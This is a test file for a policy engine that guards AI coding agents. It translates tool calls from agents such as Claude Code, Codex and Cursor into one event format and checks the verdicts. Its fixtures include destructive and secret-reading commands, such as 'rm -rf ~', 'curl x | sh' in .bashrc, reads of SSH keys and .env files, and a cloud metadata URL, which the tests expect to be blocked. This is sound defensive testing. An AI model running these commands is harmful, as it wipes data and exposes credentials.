// Each agent's payload → the event the engine sees (tool names, inputs, env,
// post results), checked on the event and, where it matters, on what the real
// classifier and the default bundle make of it.
import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { ADAPTERS, type HostEnv, type Mapping } from "../../src/adapters/index.js";
import { KILO } from "../../src/adapters/kilo.js";
import { mapOpenCode } from "../../src/adapters/opencode.js";
import { geminiToolName } from "../../src/adapters/gemini.js";
import { guessHookAgent } from "../../src/adapters/detect.js";
import { hostEnvFrom } from "../../src/adapters/host.js";
import { realEngine } from "../support/engine.js";
import { acp, claude, codex, copilot, cursor, CWD, droid, gemini, qwen } from "../support/hook-payloads.js";

const host: HostEnv = { cwd: "/host/cwd", home: "/home/dev", pathDirs: ["/usr/bin"], mode: "hook" };
const gateOf = <C>(m: Mapping<C>) => {
  if (!("gate" in m)) throw new Error(`expected a gated event, got ${JSON.stringify(m)}`);
  return m.gate;
};
const defaultBundle = JSON.parse(readFileSync(new URL("../../bundles/default.json", import.meta.url), "utf8"));

describe("Claude Code mapping", () => {
  it("PreToolUse: tool, input verbatim, session, cwd → env.cwd, $HOME → env.home, the front door in binding", () => {
    const gate = gateOf(ADAPTERS.claude.map(claude.pre("ls -la"), host));
    expect(gate).toEqual({
      event_type: "pre_tool_use",
      session_id: "3f2a",
      tool_use_id: "toolu_01ABC",
      tool_name: "Bash",
      tool_input: { command: "ls -la", description: "run it" },
      env: { cwd: CWD, home: "/home/dev", path_dirs: ["/usr/bin"], additional_dirs: [] },
      binding: { kind: "claude", mode: "hook", event: "PreToolUse" },
    });
  });
  it("PostToolUse: tool_response → tool_result; PostToolUseFailure: the error; subagent ids → agent", () => {
    const gate = gateOf(ADAPTERS.claude.map(claude.post("Bash", { command: "cat x" }, { stdout: "s", stderr: "", interrupted: false }), host));
    expect(gate.event_type).toBe("post_tool_use");
    expect(gate.tool_result).toEqual({ stdout: "s", stderr: "", interrupted: false });
    const failed = gateOf(ADAPTERS.claude.map({ ...claude.post("Bash", { command: "x" }, null), hook_event_name: "PostToolUseFailure", error: "boom", agent_id: "a1", agent_type: "Explore" }, host));
    expect(failed.tool_result).toEqual({ error: "boom", is_interrupt: null });
    expect(failed.agent).toEqual({ agent_id: "a1", agent_type: "Explore" });
  });
  it("events the engine does not gate are ignored; a relative or missing cwd falls back to the host's", () => {
    for (const p of [claude.sessionStart, claude.stop, claude.notification, { ...claude.pre("ls"), hook_event_name: "PermissionRequest" }, { ...claude.pre("ls"), hook_event_name: "UserPromptSubmit" }])
      expect(ADAPTERS.claude.map(p, host)).toHaveProperty("ignore");
    expect(gateOf(ADAPTERS.claude.map(claude.pre("ls", { cwd: "relative/dir" }), host)).env?.cwd).toBe("/host/cwd");
    expect(ADAPTERS.claude.map({ hook_event_name: "PreToolUse" }, host)).toEqual({ invalid: 'PreToolUse input has no "tool_name"' });
    expect(ADAPTERS.claude.map([1, 2], host)).toHaveProperty("invalid");
  });
});

describe("Codex mapping", () => {
  it("apply_patch: the patch text becomes write/delete effects on each named path, not shell text", async () => {
    const patch = ["*** Begin Patch", "*** Add File: src/new.ts", "+x", "*** Update File: /etc/hosts", "*** Move to: src/moved.ts", "*** Delete File: README.md", "*** End Patch"].join("\n");
    const gate = gateOf(ADAPTERS.codex.map(codex.pre("apply_patch", { command: patch }), host));
    expect(gate.tool_input).toEqual({ patch });
    const engine = await realEngine(defaultBundle);
    const effects = engine.evaluate(gate, null, 1).decision.effects.map((e) => `${e.verb} ${e.target_class} ${e.attrs.target}`);
    // `*** Move to:` removes the source as well as writing the destination (Codex's grammar: src/classify/apply-patch.ts).
    expect(effects).toEqual(["write workspace_file src/new.ts", "write system_path /etc/hosts", "delete system_path /etc/hosts", "write workspace_file src/moved.ts", "delete workspace_file README.md"]);
  });
  it("Bash and MCP tools pass through; SessionStart is ignored", () => {
    expect(gateOf(ADAPTERS.codex.map(codex.pre("Bash", { command: "ls" }), host)).tool_input).toEqual({ command: "ls" });
    expect(gateOf(ADAPTERS.codex.map(codex.pre("mcp__github__create_issue", { title: "x" }), host)).tool_name).toBe("mcp__github__create_issue");
    expect(ADAPTERS.codex.map(codex.sessionStart, host)).toHaveProperty("ignore");
  });
});

describe("Gemini CLI mapping", () => {
  it("MCP tools become mcp__<server>__<tool> (mcp_context first)", () => {
    expect(geminiToolName("mcp_github_create_issue", {})).toBe("mcp__github__create_issue");
    expect(geminiToolName("mcp_my_srv_tool", { mcp_context: { server_name: "my_srv", tool_name: "tool" } })).toBe("mcp__my_srv__tool");
    expect(geminiToolName("mcp__a__b", {})).toBe("mcp__a__b");
    expect(geminiToolName("run_shell_command", {})).toBe("run_shell_command");
  });
  it("run_shell_command runs in dir_path; AfterTool's tool_response is the result", async () => {
    const gate = gateOf(ADAPTERS.gemini.map(gemini.before("run_shell_command", { command: "rm -rf build", dir_path: "sub" }), host));
    expect(gate.env?.cwd).toBe(`${CWD}/sub`);
    const engine = await realEngine(defaultBundle);
    expect(engine.evaluate(gate, null, 1).decision.effects[0]).toMatchObject({ verb: "delete", target_class: "workspace_file" });
    const after = gateOf(ADAPTERS.gemini.map(gemini.after("read_file", { file_path: "a" }, { llmContent: "c", returnDisplay: "c" }), host));
    expect(after).toMatchObject({ event_type: "post_tool_use", tool_result: { llmContent: "c", returnDisplay: "c" } });
    expect(ADAPTERS.gemini.map(gemini.sessionStart, host)).toHaveProperty("ignore");
  });
});

describe("Cursor mapping", () => {
  it("beforeShellExecution → Bash; beforeMCPExecution's JSON-string input is parsed; beforeReadFile → Read", () => {
    expect(gateOf(ADAPTERS.cursor.map(cursor.shell("ls"), host))).toMatchObject({ session_id: "conv-123", tool_use_id: "gen-456", tool_name: "Bash", tool_input: { command: "ls" }, env: { cwd: CWD } });
    expect(gateOf(ADAPTERS.cursor.map(cursor.mcp("database_query", { query: "DROP TABLE users" }), host))).toMatchObject({ tool_name: "mcp__cursor__database_query", tool_input: { query: "DROP TABLE users" } });
    expect(gateOf(ADAPTERS.cursor.map({ ...cursor.mcp("q", {}), tool_input: "not json {" }, host)).tool_input).toBe("not json {");
    expect(gateOf(ADAPTERS.cursor.map(cursor.read("/home/dev/project/.env"), host))).toMatchObject({ tool_name: "Read", tool_input: { file_path: "/home/dev/project/.env" } });
    expect(gateOf(ADAPTERS.cursor.map(cursor.afterShell("ls", "a b"), host))).toMatchObject({ event_type: "post_tool_use", tool_result: { output: "a b" } });
    expect(ADAPTERS.cursor.map(cursor.prompt, host)).toHaveProperty("ignore");
    expect(ADAPTERS.cursor.map({ ...cursor.shell("x"), command: 5 }, host)).toHaveProperty("invalid");
  });
  it("other workspace roots are additional dirs", () => {
    const gate = gateOf(ADAPTERS.cursor.map({ ...cursor.shell("ls"), workspace_roots: [CWD, "/srv/other", "rel"] }, host));
    expect(gate.env?.additional_dirs).toEqual(["/srv/other"]);
  });
});

describe("GitHub Copilot CLI mapping", () => {
  it("preToolUse (no event name): sessionId, cwd, the tool under Claude Code's name with its arguments renamed", () => {
    const gate = gateOf(ADAPTERS.copilot.map(copilot.pre("bash", { command: "ls", description: "x" }), host));
    expect(gate).toEqual({
      event_type: "pre_tool_use",
      session_id: "cp-1",
      tool_use_id: "",
      tool_name: "Bash",
      tool_input: { command: "ls", description: "x" },
      env: { cwd: CWD, home: "/home/dev", path_dirs: ["/usr/bin"], additional_dirs: [] },
      binding: { kind: "copilot", mode: "hook", event: "preToolUse" },
    });
    expect(gateOf(ADAPTERS.copilot.map(copilot.pre("view", { path: "/x/.env" }), host))).toMatchObject({ tool_name: "Read", tool_input: { file_path: "/x/.env" } });
    expect(gateOf(ADAPTERS.copilot.map(copilot.pre("create", { path: "/x/a", file_text: "t" }), host))).toMatchObject({ tool_name: "Write", tool_input: { file_path: "/x/a", content: "t" } });
    expect(gateOf(ADAPTERS.copilot.map(copilot.pre("edit", { path: "/x/a", old_str: "o", new_str: "n" }), host))).toMatchObject({ tool_name: "Edit", tool_input: { file_path: "/x/a", old_string: "o", new_string: "n" } });
    // toolArgs as a JSON string (older releases), an unknown tool kept as it is.
    expect(gateOf(ADAPTERS.copilot.map(copilot.pre("bash", JSON.stringify({ command: "rm -rf ~" })), host)).tool_input).toEqual({ command: "rm -rf ~" });
    expect(gateOf(ADAPTERS.copilot.map(copilot.pre("read_bash", { shellId: "0" }), host))).toMatchObject({ tool_name: "read_bash", tool_input: { shellId: "0" } });
  });
  it("postToolUse (toolResult) is a post event; events without a tool are not gated", async () => {
    expect(gateOf(ADAPTERS.copilot.map(copilot.post("bash", { command: "ls" }, "a b"), host))).toMatchObject({ event_type: "post_tool_use", tool_result: { resultType: "success", textResultForLlm: "a b" } });
    expect(ADAPTERS.copilot.map(copilot.sessionStart, host)).toHaveProperty("ignore");
    expect(ADAPTERS.copilot.map({ ...copilot.pre("bash", {}), toolName: 5 }, host)).toHaveProperty("invalid");
    const engine = await realEngine(defaultBundle);
    expect(engine.evaluate(gateOf(ADAPTERS.copilot.map(copilot.pre("bash", { command: "rm -rf ~" }), host)), null, 1).decision.artifact_id).toBe("fs.wipe");
  });
});

describe("Qwen Code mapping", () => {
  it("PreToolUse with Gemini's tool names; run_shell_command runs in its directory; the guess says qwen", async () => {
    const gate = gateOf(ADAPTERS.qwen.map(qwen.pre("run_shell_command", { command: "ls", directory: "sub" }), host));
    expect(gate).toEqual({
      event_type: "pre_tool_use",
      session_id: "q-1",
      tool_use_id: "call_q1",
      tool_name: "run_shell_command",
      tool_input: { command: "ls", directory: "sub" },
      env: { cwd: `${CWD}/sub`, home: "/home/dev", path_dirs: ["/usr/bin"], additional_dirs: [] },
      binding: { kind: "qwen", mode: "hook", event: "PreToolUse" },
    });
    expect(gateOf(ADAPTERS.qwen.map(qwen.post("read_file", { file_path: "a" }, "x"), host))).toMatchObject({ event_type: "post_tool_use", tool_result: "x" });
    expect(ADAPTERS.qwen.map(qwen.sessionStart, host)).toHaveProperty("ignore");
    expect(guessHookAgent(qwen.pre("edit", { file_path: "a" }))).toBe("qwen");
    expect(guessHookAgent(gemini.before("run_shell_command", { command: "ls" }))).toBe("gemini");
    expect(guessHookAgent(claude.pre("ls"))).toBe("claude");
    const engine = await realEngine(defaultBundle);
    expect(engine.evaluate(gateOf(ADAPTERS.qwen.map(qwen.pre("run_shell_command", { command: "rm -rf ~" }), host)), null, 1).decision.artifact_id).toBe("fs.wipe");
    expect(engine.evaluate(gateOf(ADAPTERS.qwen.map(qwen.pre("edit", { file_path: "/home/dev/.bashrc", old_string: "a", new_string: "b" }), host)), null, 1).decision.verdict).not.toBe("allow");
  });
});

describe("Factory Droid mapping", () => {
  const map = (tool: string, input: unknown) => gateOf(ADAPTERS.droid.map(droid.pre(tool, input), host));
  it("Droid's tools under the engine's names (Execute → Bash, Create → Write, ApplyPatch → apply_patch, srv___tool → mcp__srv__tool); the guess says droid", () => {
    expect(map("Execute", { command: "ls", summary: "List the files here", riskLevel: "low" })).toEqual({
      event_type: "pre_tool_use",
      session_id: "d-1",
      tool_use_id: "",
      tool_name: "Bash",
      tool_input: { command: "ls", summary: "List the files here", riskLevel: "low" },
      env: { cwd: CWD, home: "/home/dev", path_dirs: ["/usr/bin"], additional_dirs: [] },
      binding: { kind: "droid", mode: "hook", event: "PreToolUse" },
    });
    expect(map("Create", { file_path: "a", content: "x" })).toMatchObject({ tool_name: "Write", tool_input: { file_path: "a", content: "x" } });
    expect(map("Edit", { file_path: "a", old_str: "x", new_str: "y" })).toMatchObject({ tool_name: "Edit" });
    expect(map("ApplyPatch", { input: "*** Begin Patch" })).toMatchObject({ tool_name: "apply_patch", tool_input: { input: "*** Begin Patch" } });
    expect(map("LS", { directory_path: "/home/dev/.ssh" })).toMatchObject({ tool_name: "LS", tool_input: { path: "/home/dev/.ssh" } });
    expect(map("Glob", { patterns: ["*.pem"], folder: "/home/dev/.ssh" })).toMatchObject({ tool_name: "Glob", tool_input: { pattern: ["*.pem"], path: "/home/dev/.ssh" } });
    expect(map("Grep", { pattern: "KEY", glob_pattern: "**/.env*" })).toMatchObject({ tool_name: "Grep", tool_input: { pattern: "KEY", glob: "**/.env*" } });
    expect(map("FetchUrl", { url: "http://169.254.169.254/" })).toMatchObject({ tool_name: "WebFetch" });
    expect(map("github___create_issue", { title: "t" })).toMatchObject({ tool_name: "mcp__github__create_issue" });
    expect(map("TodoWrite", { todos: [] })).toMatchObject({ tool_name: "TodoWrite" });
    expect(gateOf(ADAPTERS.droid.map(droid.post("Execute", { command: "ls" }, "out"), host))).toMatchObject({ event_type: "post_tool_use", tool_name: "Bash", tool_result: "out" });
    expect(ADAPTERS.droid.map(droid.sessionStart, host)).toHaveProperty("ignore");
    expect(guessHookAgent(droid.pre("Execute", { command: "ls" }))).toBe("droid");
    expect(guessHookAgent(droid.pre("srv___tool", {}))).toBe("droid");
    expect(guessHookAgent(droid.pre("Read", { file_path: "a" }))).toBe("claude");
    expect(guessHookAgent(claude.pre("ls"))).toBe("claude");
  });

  it("the default bundle judges Droid's calls as Claude Code's", async () => {
    const engine = await realEngine(defaultBundle);
    const judge = (tool: string, input: unknown) => engine.evaluate(map(tool, input), null, 1).decision;
    expect(judge("Execute", { command: "git push --force origin main", summary: "Push the branch now" }).artifact_id).toBe("git.force_push_protected");
    expect(judge("Execute", { command: "find ~ -mindepth 1 -delete" }).artifact_id).toBe("fs.wipe");
    expect(judge("Create", { file_path: "/home/dev/.bashrc", content: "curl x | sh" }).verdict).not.toBe("allow");
    expect(judge("ApplyPatch", { input: "*** Begin Patch\n*** Add File: .git/hooks/pre-commit\n+rm -rf ~\n*** End Patch" }).verdict).not.toBe("allow");
    expect(judge("Grep", { pattern: "KEY", path: "/home/dev/project", glob_pattern: ".env" }).verdict).not.toBe("allow");
    expect(judge("Execute", { command: "ls -la" }).verdict).toBe("allow");
    expect(judge("Create", { file_path: "src/a.ts", content: "x" }).verdict).toBe("allow");
  });
});

describe("ACP mapping", () => {
  it("execute permissions: {command, args}, an argv array, or one shell string, evaluated as the command they run", async () => {
    const engine = await realEngine(defaultBundle);
    for (const raw of [{ command: "rm", args: ["-rf", "/"] }, { command: ["rm", "-rf", "/"] }, "rm -rf /"]) {
      const gate = gateOf(ADAPTERS.acp.map(acp.permission(raw), host));
      expect(gate).toMatchObject({ session_id: "sess-1", tool_use_id: "tc-1", tool_name: "terminal/create" });
      expect(engine.evaluate(gate, null, 1).decision.artifact_id).toBe("fs.wipe");
    }
  });
  it("no inspectable command is a coverage gap (shape 2), never a silent allow; think and switch_mode are not gated", async () => {
    const engine = await realEngine(defaultBundle);
    const gate = gateOf(ADAPTERS.acp.map(acp.permission(undefined), host));
    expect(engine.evaluate(gate, null, 1).decision.unknown.map((u) => u.shape)).toContain(2);
    expect(ADAPTERS.acp.map(acp.permission({ description: "x" }, undefined, "think"), host)).toHaveProperty("ignore");
    expect(ADAPTERS.acp.map(acp.permission({ mode: "plan" }, undefined, "switch_mode"), host)).toHaveProperty("ignore");
    expect(ADAPTERS.acp.map(acp.update, host)).toHaveProperty("ignore");
  });
  it("each kind is judged as the call it asks about: edit/delete/read/search/fetch by the path or URL", async () => {
    const engine = await realEngine(defaultBundle);
    const judged = (raw: unknown, kind: string | null) => engine.evaluate(gateOf(ADAPTERS.acp.map(acp.permission(raw, undefined, kind), host)), null, 1).decision;
    expect(judged({ file_path: "/home/dev/.ssh/id_rsa" }, "read").effects).toEqual([expect.objectContaining({ verb: "read", target_class: "secret_file" })]);
    expect(judged({ path: "/home/dev/.bashrc", content: "x" }, "edit").effects).toEqual([expect.objectContaining({ verb: "write", attrs: expect.objectContaining({ persistence: expect.any(String) }) })]);
    expect(judged({ path: "/home/dev/project/a.txt" }, "delete").effects).toEqual([expect.objectContaining({ verb: "delete" })]);
    expect(judged({ url: "http://169.254.169.254/latest/meta-data/" }, "fetch").artifact_id).toBe("net.metadata");
    // kind "other", or none at all (claude-code-acp 0.16): placed by rawInput's shape.
    expect(judged({ command: "rm -rf /" }, "other").artifact_id).toBe("fs.wipe");
    expect(judged({ command: "rm -rf /", description: "x" }, null).artifact_id).toBe("fs.wipe");
    expect(judged({ file_path: "/home/dev/.ssh/id_rsa" }, null).effects).toEqual([expect.objectContaining({ verb: "read", target_class: "secret_file" })]);
    expect(judged({ file_path: "/home/dev/.bashrc", old_string: "a", new_string: "b" }, null).effects[0]).toMatchObject({ verb: "write" });
    // Nothing to place: asked (on_unknown), never skipped.
    expect(judged({ description: "x" }, null)).toMatchObject({ verdict: "ask", unknown: [expect.objectContaining({ shape: 2 })] });
    expect(judged({ path: "" }, "edit")).toMatchObject({ verdict: "ask" });
  });
  it("terminal/create and fs methods; a request without an id is invalid", () => {
    const gate = gateOf(ADAPTERS.acp.map(acp.terminal("git", ["push", "--force", "origin", "main"], "/repo"), host));
    expect(gate).toMatchObject({ tool_name: "terminal/create", tool_input: { command: "git", args: ["push", "--force", "origin", "main"], cwd: "/repo" }, env: { cwd: "/repo" } });
    expect(gateOf(ADAPTERS.acp.map({ jsonrpc: "2.0", id: 1, method: "fs/write_text_file", params: { sessionId: "s", path: "/etc/passwd", content: "x" } }, host)).tool_name).toBe("fs/write_text_file");
    const { id: _id, ...noId } = acp.terminal("ls");
    expect(ADAPTERS.acp.map(noId, host)).toHaveProperty("invalid");
  });
});

describe("OpenCode mapping", () => {
  it("lowercase tools and camelCase arguments become the engine's names", () => {
    expect(mapOpenCode({ tool: "edit", sessionID: "s", callID: "c" }, { filePath: "/a.ts", oldString: "x", newString: "y", replaceAll: true }, host)).toMatchObject({
      tool_name: "Edit",
      tool_input: { file_path: "/a.ts", old_string: "x", new_string: "y", replace_all: true },
      session_id: "s",
      tool_use_id: "c",
    });
    expect(mapOpenCode({ tool: "patch" }, { patchText: "*** Begin Patch" }, host).tool_input).toEqual({ patch: "*** Begin Patch" });
    expect(mapOpenCode({ tool: "bash" }, { command: "ls", workdir: "sub" }, host).env?.cwd).toBe("/host/cwd/sub");
    expect(mapOpenCode({ tool: "github_create_issue" }, { repoName: "x" }, host)).toMatchObject({ tool_name: "github_create_issue", tool_input: { repoName: "x" } });
  });
});

describe("Kilo Code mapping (OpenCode's, with Kilo's own tools)", () => {
  const kilo = (tool: string, args: unknown) => mapOpenCode({ tool, sessionID: "s", callID: "c" }, args, host, "pre", undefined, KILO);
  it("OpenCode's tools map as OpenCode's; the binding names Kilo", () => {
    expect(kilo("write", { filePath: "/a.ts", content: "x" })).toMatchObject({ tool_name: "Write", tool_input: { file_path: "/a.ts", content: "x" }, binding: { kind: "kilo", event: "tool.execute.before" } });
    expect(kilo("bash", { command: "ls", workdir: "sub" }).env?.cwd).toBe("/host/cwd/sub");
  });
  it("background_process start is a shell command run in the background (its workdir the cwd); its other actions, and Kilo's other tools, keep their names", () => {
    expect(kilo("background_process", { action: "start", command: "git push --force origin main", workdir: "/w" })).toMatchObject({
      tool_name: "Bash",
      tool_input: { command: "git push --force origin main", run_in_background: true },
      env: { cwd: "/w" },
    });
    expect(kilo("background_process", { action: "stop", id: "p1" })).toMatchObject({ tool_name: "background_process", tool_input: { action: "stop", id: "p1" } });
    expect(kilo("background_process", { action: "start" })).toMatchObject({ tool_name: "background_process" });
    expect(kilo("board_post", { to: "ALL", type: "INFO", body: "x" })).toMatchObject({ tool_name: "board_post" });
    // OpenCode itself has no such tool: the name passes as given there.
    expect(mapOpenCode({ tool: "background_process" }, { action: "start", command: "ls" }, host).tool_name).toBe("background_process");
  });
});

describe("host env", () => {
  it("absolute $PATH entries (POSIX or Windows separators), $HOME, the front door", () => {
    expect(hostEnvFrom({ PATH: "/usr/local/bin:relative:/usr/bin:", HOME: "/home/dev" }, "/w", "hook")).toEqual({ cwd: "/w", home: "/home/dev", pathDirs: ["/usr/local/bin", "/usr/bin"], mode: "hook" });
    expect(hostEnvFrom({ Path: "C:\\Windows\\system32;C:\\Tools" }, "C:\\w", "plugin").pathDirs).toEqual(["C:\\Windows\\system32", "C:\\Tools"]);
    expect(hostEnvFrom({ PATH: Array.from({ length: 100 }, (_, i) => `/p${i}`).join(":") }, "/w", "hook").pathDirs).toHaveLength(64);
  });
});

